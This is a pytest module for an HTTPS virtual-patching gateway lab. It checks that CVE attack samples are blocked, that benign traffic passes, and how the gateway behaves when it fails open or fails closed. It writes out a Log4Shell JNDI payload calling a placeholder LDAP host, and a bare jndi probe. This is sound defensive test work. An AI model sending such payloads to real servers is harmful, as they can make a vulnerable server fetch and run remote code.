"""The HTTPS plane in the lab: real nginx (TLS 1.0 only), real curl, real TLS, the real gateway.

One lab and one gateway (fail_policy open, the lab's own config: nginx on 198.18.0.20:443
proxied) for the module; the fail-closed test runs a second gateway with a small rule set.
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway.config import BUNDLED_RULES
from gateway.control.server import control_request
from gateway.lab import LabSpec, lab_down, lab_up
from gateway.lab.netns import netns_exec
from gateway.match.rules import load_rules
from gateway.testing.corpora import csic_requests
from gateway.testing.tls_lab import LabGateway, curl, send
from tests.conftest import lab_name

pytestmark = [pytest.mark.netns, pytest.mark.timeout(300)]

CSIC_SAMPLE = 40  # normal CSIC 2010 requests sent over HTTPS
# rule id -> the CVE its attack sample must raise (the attacks the packet plane blocks)
ATTACKS = {
    9010010: "CVE-2014-6271",  # Shellshock
    9010001: "CVE-2021-44228",  # Log4Shell (headers)
    9010040: "CVE-2021-41773",  # Apache traversal
    9010020: "CVE-2015-1635",  # MS15-034 Range
    9010030: "CVE-2017-7269",  # IIS 6 WebDAV PROPFIND
    9010050: "CVE-2017-5638",  # Struts 2 Content-Type OGNL
}
LOG4SHELL_BODY = (
    b"POST /login HTTP/1.1\r\nHost: 198.18.0.20\r\nContent-Type: "
    b"application/x-www-form-urlencoded\r\nContent-Length: 38\r\n\r\n"
    b"user=${jndi:ldap://e.example/a}&pw=abc"
)


@pytest.fixture(scope="module")
def tlslab() -> Iterator[LabSpec]:
    if os.geteuid() != 0:
        pytest.skip("the lab needs root (network namespaces)")
    spec = LabSpec(name=lab_name("tls"))
    lab_down(spec.name)
    try:
        lab_up(spec, services=True, gateway=False)
        yield spec
    finally:
        lab_down(spec.name)


@pytest.fixture(scope="module")
def gateway(tlslab: LabSpec, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabGateway]:
    gw = LabGateway(tlslab, tmp_path_factory.mktemp("gw-open"))
    try:
        gw.wait(True)
        yield gw
    finally:
        gw.stop()


def _attack_samples() -> dict[int, bytes]:
    rules = {rule.id: rule for rule in load_rules([BUNDLED_RULES]).rules}
    out = {}
    for sid in ATTACKS:
        sample = next(s for s in rules[sid].samples if s.kind == "attack" and s.to_server)
        out[sid] = sample.to_server
    return out


def test_tls13_client_reaches_the_tls10_server_only_through_the_gateway(
    tlslab: LabSpec, gateway: LabGateway
) -> None:
    through = curl(tlslab, "--tlsv1.3", f"https://{tlslab.server_addr}/")
    assert through.stdout == "200"
    # straight to nginx (from the gateway's namespace: not redirected), TLS 1.2 fails
    direct = ["curl", "-sk", "--max-time", "5", "--tlsv1.2", f"https://{tlslab.server_addr}/"]
    assert netns_exec(tlslab.gw_ns, direct, check=False).returncode == 35  # handshake failed
    log = (tlslab.state_dir / "nginx" / "access.log").read_text()
    assert tlslab.bridge_ip.split("/")[0] in log  # the server saw the proxy (docs/https.md)


def test_attacks_are_blocked_over_https_with_an_event_naming_the_cve(
    tlslab: LabSpec, gateway: LabGateway
) -> None:
    samples = _attack_samples()
    access = tlslab.state_dir / "nginx" / "access.log"
    before = access.read_text().count("\n")
    codes = send(tlslab, [*samples.values(), LOG4SHELL_BODY])
    assert codes == [403] * (len(samples) + 1)  # the block page
    assert access.read_text().count("\n") == before  # nothing reached the server (lazy)
    events = gateway.events()
    fired = {e["alert"]["signature_id"]: e for e in events}
    for sid, cve in ATTACKS.items():
        assert sid in fired, f"no event for {sid} ({cve})"
        event = fired[sid]
        assert cve in event["alert"]["metadata"]["cve"] and event["alert"]["action"] == "blocked"
        assert event["tls"]["version"] == "TLSv1.3" and event["dest_port"] == 443
    body = [e for e in events if e["vpatch"]["field"] == "http.lookups" and "pw=" in str(e)]
    assert body or any("CVE-2021-44228" in e["alert"]["metadata"]["cve"] for e in events)


def test_benign_requests_pass_with_no_event(
    tlslab: LabSpec, gateway: LabGateway, corpora: Path
) -> None:
    normal = csic_requests(corpora / "benign" / "csic2010-normal-training.txt.gz")
    step = max(1, len(normal) // CSIC_SAMPLE)
    sample = normal[::step][:CSIC_SAMPLE]
    before = len(gateway.events())
    codes = send(tlslab, sample)
    assert 0 not in codes and 403 not in codes and -1 not in codes, codes
    assert len(gateway.events()) == before


def test_a_tls10_only_client_is_refused_with_an_event(tlslab: LabSpec, gateway: LabGateway) -> None:
    request = b"GET / HTTP/1.1\r\nHost: 198.18.0.20\r\n\r\n"
    assert send(tlslab, [request], ("TLSv1", "TLSv1")) == [-1]
    refused = [e for e in gateway.events() if e["alert"]["signature_id"] == 9300030]
    assert refused and refused[-1]["tls"]["version"] == "TLS1"
    assert gateway.service()["counters"]["tls_refused"] >= 1


def test_killing_the_proxy_fails_open_and_it_comes_back(
    tlslab: LabSpec, gateway: LabGateway
) -> None:
    service = gateway.service()
    assert service["mode"] == "https-proxy" and "vpatch-lab" in service["certificate"]["subject"]
    (proxy,) = service["proxies"]
    os.kill(proxy["pid"], 9)
    down = gateway.wait(False, 10, bypassed=True)  # the redirect is gone
    assert down["proxies"][0]["alive"] is False or down["proxies"][0]["pid"] != proxy["pid"]
    # the legacy server's own TLS 1.0 now reaches it straight, uninspected
    assert send(tlslab, [b"GET /?x=${jndi:x} HTTP/1.1\r\nHost: a\r\n\r\n"], ("TLSv1", "TLSv1")) == [
        200
    ]
    up = gateway.wait(True)
    assert up["proxies"][0]["restarts"] == 1 and up["bypassed"] is False
    assert curl(tlslab, "--tlsv1.3", f"https://{tlslab.server_addr}/").stdout == "200"


def test_rules_reload_reaches_the_proxy_and_fail_closed_refuses_while_it_is_down(
    tlslab: LabSpec, gateway: LabGateway, tmp_path: Path
) -> None:
    gateway.stop()  # one gateway at a time in the namespace
    small = [str(BUNDLED_RULES / "cve-2014-6271-shellshock.yaml")]
    gw = LabGateway(tlslab, tmp_path / "gw-closed", fail_policy="closed", rules=small)
    try:
        service = gw.wait(True)
        reloaded = control_request(gw.socket, "rules-reload", timeout=120)
        deadline = time.monotonic() + 60
        while gw.service()["proxies"][0]["rules_version"] != reloaded["version"]:
            assert time.monotonic() < deadline, "the proxy did not take the reloaded rules"
            time.sleep(0.2)
        service = gw.service()
        os.kill(service["proxies"][0]["pid"], 9)
        down = gw.wait(False, 10)
        assert down["bypassed"] is False  # fail-closed: the redirect stays
        plain = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
        assert send(tlslab, [plain], ("TLSv1", "TLSv1")) == [-2]  # refused: nothing passes
        gw.wait(True)
        assert curl(tlslab, "--tlsv1.3", f"https://{tlslab.server_addr}/").stdout == "200"
    finally:
        gw.stop()
